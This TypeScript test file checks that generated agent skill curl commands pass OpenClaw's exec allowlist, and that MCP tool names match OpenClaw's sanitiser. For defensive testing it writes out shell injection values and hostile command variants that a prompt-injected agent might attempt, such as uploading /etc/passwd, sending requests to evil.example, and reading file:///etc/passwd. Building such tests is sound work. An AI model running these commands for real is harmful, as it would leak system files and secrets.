// brainc's output against OpenClaw's own functions (openclaw@2026.9.6, the copy that
// `npm run test:conformance:openclaw` installs into .cache/openclaw): the skills' curl commands against its
// exec allowlist evaluator, and brainc's MCP tool names against its MCP name sanitiser. Skipped when it is
// not there.
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { describe, expect, it } from "vitest";
import { emitTarget, fillSkillCommand, inJsonString, openclawBrains, repoRoot, skillCommand, strictUriEncode, writeSkillValue } from "../../test/helpers.js";
import openclaw from "./index.js";
import { mcpToolName } from "./mcp-names.js";

const dist = join(repoRoot, ".cache/openclaw/node_modules/openclaw/dist");
/** The file name of a dist chunk of the installed openclaw (their names end in a content hash). */
const chunkFile = (prefix: string) => (existsSync(dist) ? readdirSync(dist).find((f) => f.startsWith(`${prefix}-`) && f.endsWith(".mjs") && /^[\w-]+$/.test(f.slice(prefix.length + 1, -4))) : undefined);
const chunk = chunkFile("exec-approvals-allowlist");
const namesChunk = chunkFile("agent-bundle-mcp-names");
/** Skipped only when openclaw is not installed (npm test before the conformance run); `npm run test:conformance:openclaw` runs this file after installing it. */
const installed = existsSync(dist);
const skipped = " (skipped: no openclaw in .cache/openclaw; run npm run test:conformance:openclaw once)";

/** An export of a dist chunk by its source name (chunks export under minified names; their export statement maps them). */
async function chunkExport<T>(file: string, name: string): Promise<T> {
  const path = join(dist, file);
  const alias = new RegExp(`\\b${name} as (\\w+)`).exec(readFileSync(path, "utf8"))?.[1];
  if (!alias) throw new Error(`${path} does not export ${name}`);
  return (await import(pathToFileURL(path).href))[alias] as T;
}

type Evaluate = (params: Record<string, unknown>) => Promise<{ analysisOk: boolean; allowlistSatisfied: boolean; authorizationPlan?: { reason?: string } }>;

/**
 * OpenClaw's `evaluateShellAllowlistWithAuthorization` (src/infra/exec-approvals-allowlist.ts), the check
 * the gateway runs on every exec command in allowlist mode.
 */
const openclawEvaluator = () => chunkExport<Evaluate>(chunk!, "evaluateShellAllowlistWithAuthorization");

const brains = openclawBrains();


/** A hostile value for a placeholder: shell syntax that must stay literal (no `'`: the skill has the model write it encoded). */
const HOSTILE = "it\\u0027s $HOME; `id` | sh *?[a] {b,c} $(x) ${y} \"q\" /../?a=b&c#d";
/**
 * A command as the model would run it ({@link fillSkillCommand}): each argument placeholder filled with
 * {@link HOSTILE}, `url` where the URL starts with the placeholder, and 3 (`true` for `booleans`) where
 * the body takes a JSON value.
 */
function filledIn(command: string, url = "https://status.example.com/health?full=1", booleans = new Set<string>()): string {
  return fillSkillCommand(command, (name, place) => (place === "url-start" ? url : place === "body-value" ? (booleans.has(name) ? "true" : "3") : HOSTILE));
}

/** Commands that a model (or a prompt injection) might try instead of a skill's own: each must be an allowlist miss. */
function hostileVariants(command: string, booleans: Set<string>): [string, string][] {
  const filled = filledIn(command, undefined, booleans);
  const variants: [string, string][] = [
    ["an added option that writes a file", filled.replace(/^curl /, "curl -o /tmp/brainc-x ")],
    ["an added option that reads a config file", filled.replace(/^curl /, "curl -K /tmp/brainc-x ")],
    ["an added upload of a file", `${filled} --data-binary @/etc/passwd`],
  ];
  // A URL that starts with a placeholder picks the host (brain-format.md allows `url: "{{url}}"`), but only an http(s) URL.
  if (/ '\{\{\w+\}\}/.test(command)) variants.push(["a file: URL", filledIn(command, "file:///etc/passwd", booleans)]);
  else variants.push(["another host", filled.replace(/'https?:\/\/[^/']+/, "'https://evil.example")], ["curl's own variable sent elsewhere", filled.replace(/'https?:\/\/[^/']+/, "'https://evil.example/{{X}}")]);
  if (/(?:'https?:\/\/[^']*\/[^']*|--url-query '[^']*)\{\{\w+\}\}/.test(command)) variants.push(["an unencoded URL value", filled.replace(strictUriEncode(HOSTILE), "x/../admin?y=1&z")]);
  if (/'https?:\/\/[^']*\/\{\{\w+\}\}/.test(command)) variants.push(["a path value that is a dot segment", filled.replace(strictUriEncode(HOSTILE), "%2E%2e")], ["a path value that is a dot segment", filled.replace(strictUriEncode(HOSTILE), "..")]);
  const variable = /--variable '%([A-Za-z0-9_]+)/.exec(command)?.[1];
  if (variable && /--expand-header '[^']*\{\{[a-z]\w*\}\}/.test(command)) variants.push(["a header value that names a secret curl would expand there", filled.replace(writeSkillValue["expanded-header"](HOSTILE), `{{${variable}}}`)]);
  const expandedBody = command.includes(" --expand-data-raw ");
  const bodyValue = writeSkillValue[expandedBody ? "expanded-body-string" : "body-string"](HOSTILE);
  if (variable && expandedBody) variants.push(["a body value that names a secret curl would expand there", filled.replace(bodyValue, `{{${variable}}}`)]);
  const body = /--(?:expand-)?data-raw ('[^']*')/.exec(command)?.[1] ?? "";
  if ([...body.matchAll(/\{\{\w+\}\}/g)].some((m) => !inJsonString(body, m.index))) variants.push(["a body value out of quotes that adds a member", filled.replace(/([:,[])3([,}\]])/, '$1 3, "to": "x"$2')]);
  if (/--(?:expand-)?data-raw '[^']*\{\{\w+\}\}/.test(command)) variants.push(["a body value that ends its JSON string", filled.replace(bodyValue, 'x","channel":"other')]);
  return variants;
}

type Allowlist = Record<string, { allowlist: { pattern: string; argPattern?: string }[] }>;

describe.skipIf(!installed)(`skills' commands pass OpenClaw's exec allowlist analysis${installed ? "" : skipped}`, () => {
  it.each(brains)("%s: every skill command is one line that OpenClaw analyses and matches to the agent's curl entries in exec-approvals.json, and nothing else curl might run does", async (_label, dir, env) => {
    expect(chunk, `openclaw's exec-approvals-allowlist chunk in ${dist}`).toBeDefined();
    const evaluate = await openclawEvaluator();
    const { files } = await emitTarget(openclaw, dir, env);
    const approvals = files.find((f) => f.path === "exec-approvals.json");
    const agents = (approvals ? JSON.parse(approvals.contents).agents : {}) as Allowlist;
    const check = (command: string, allowlist: unknown[]) => evaluate({ command, cwd: repoRoot, env: process.env, platform: "linux", allowlist, safeBins: new Set(), allowShellBuiltins: true });
    const skills = files.filter((f) => f.path.endsWith("/SKILL.md"));
    for (const skill of skills) {
      const agent = /^workspaces\/([^/]+)\//.exec(skill.path)![1];
      const allowlist = agents[agent]?.allowlist ?? [];
      expect(allowlist.filter((e) => e.pattern === "curl" && !e.argPattern), `${agent}: curl with any arguments`).toEqual([]);
      const command = skillCommand(skill.contents);
      expect(command, skill.path).toMatch(/^curl [^\n]+$/);
      // The command as written (placeholders unfilled, which URL values may not hold) is analysed; as filled in, it is allowed too.
      expect({ path: skill.path, analysisOk: (await check(command, allowlist)).analysisOk }).toEqual({ path: skill.path, analysisOk: true });
      // Boolean arguments (the skill lists their types) get `true` where the body takes a JSON value.
      const booleans = new Set([...skill.contents.matchAll(/^- `(\w+)` \(boolean/gm)].map((m) => m[1]));
      const filled = filledIn(command, undefined, booleans);
      const r = await check(filled, allowlist);
      expect({ path: skill.path, command: filled, analysisOk: r.analysisOk, allowlistSatisfied: r.allowlistSatisfied, reason: r.authorizationPlan?.reason }).toEqual({ path: skill.path, command: filled, analysisOk: true, allowlistSatisfied: true, reason: undefined });
      for (const [what, c] of hostileVariants(command, booleans)) {
        expect({ path: skill.path, what, allowlistSatisfied: (await check(c, allowlist)).allowlistSatisfied }).toEqual({ path: skill.path, what, allowlistSatisfied: false });
      }
    }
  });
});

describe.skipIf(!installed)(`MCP tool names are the ones OpenClaw registers${installed ? "" : skipped}`, () => {
  it("matches OpenClaw's assignSafeServerNames + buildSafeToolName", async () => {
    expect(namesChunk, `openclaw's agent-bundle-mcp-names chunk in ${dist}`).toBeDefined();
    const assign = await chunkExport<(names: string[]) => Map<string, string>>(namesChunk!, "assignSafeServerNames");
    const build = await chunkExport<(p: { serverName: string; toolName: string; reservedNames: Set<string> }) => string>(namesChunk!, "buildSafeToolName");
    const servers = ["gmail", "acme-google-workspace-production-mcp", "a.b", "a-b", "A_B", "9lives", "42", "ünï", "x".repeat(40), `${"x".repeat(40)}!`];
    const tools = ["messages.archive", "search_messages", "search", "1st", "", "ä/b c", "t".repeat(80)];
    // OpenClaw assigns server names in the key order of mcp.servers as loaded: brainc writes them sorted.
    const loaded = assign(Object.keys(JSON.parse(JSON.stringify(Object.fromEntries([...servers].sort().map((n) => [n, 0]))))));
    for (const server of servers) for (const tool of tools) expect(mcpToolName(server, tool, servers), `${server} / ${tool}`).toBe(build({ serverName: loaded.get(server)!, toolName: tool, reservedNames: new Set() }));
  });
});
